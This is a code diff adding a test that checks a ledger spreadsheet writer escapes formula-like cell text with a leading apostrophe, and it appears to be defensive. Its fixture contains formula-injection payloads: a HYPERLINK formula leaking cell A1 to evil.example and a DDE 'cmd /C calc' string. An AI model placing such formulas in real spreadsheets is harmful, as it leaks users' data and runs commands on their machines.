@@ -1,5 +1,8 @@
 import { Writable } from 'node:stream';
 import { describe, expect, it } from 'vitest';
+import ExcelJS from 'exceljs';
+import { cellText } from './ledger.cells.ts';
+import { safeCell } from '../../../platform/files/spreadsheet-safe.ts';
 import type { LedgerLine } from './ledger.columns.ts';
 import { createLedgerWriter } from './ledger.workbook.ts';
 
@@ -26,5 +29,32 @@ describe('ledger workbook writer', () => {
     expect(received).toBeGreaterThan(1_000_000);
     // Half the rows in, at least a third of the compressed file has gone out.
     expect(halfway / received).toBeGreaterThan(0.33);
+  });
+
+  it('writes text that a spreadsheet would take for a formula with a leading apostrophe, and reads it back as it was', async () => {
+    const chunks: Buffer[] = [];
+    const out = new Writable({ write(chunk: Buffer, _enc, cb) { chunks.push(chunk); cb(); } });
+    const writer = createLedgerWriter(out);
+    writer.openSheet('=张八桥镇', 2020);
+    const hostile = {
+      applicants: '=HYPERLINK("http://evil.example/?"&A1,"点击")', respondents: '+1+cmd|\' /C calc\'!A0', mediators: '-2+3',
+      village: '@SUM(1+1)', terms: '\t=1+1', category: '邻里纠纷',
+    };
+    writer.addLine({ ...line(1), ...hostile });
+    await writer.settle();
+    await writer.finish();
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
+    const values = wb.worksheets[0]?.getSheetValues().flat().filter((v): v is string => typeof v === 'string') ?? [];
+    for (const text of Object.values(hostile).filter((t) => t !== '邻里纠纷')) {
+      expect(values).toContain(`'${text}`);
+      expect(values).not.toContain(text);
+      expect(cellText(`'${text}`)).toBe(text.trim());
+    }
+    expect(values.some((v) => v.startsWith("'=张八桥镇"))).toBe(true);
+    expect(values).toContain('邻里纠纷');
+    // A carriage return does not survive XML as itself; the rule still covers it.
+    expect(safeCell('\r=1+1')).toBe("'\r=1+1");
+    expect(safeCell('张三')).toBe('张三');
   });
 });
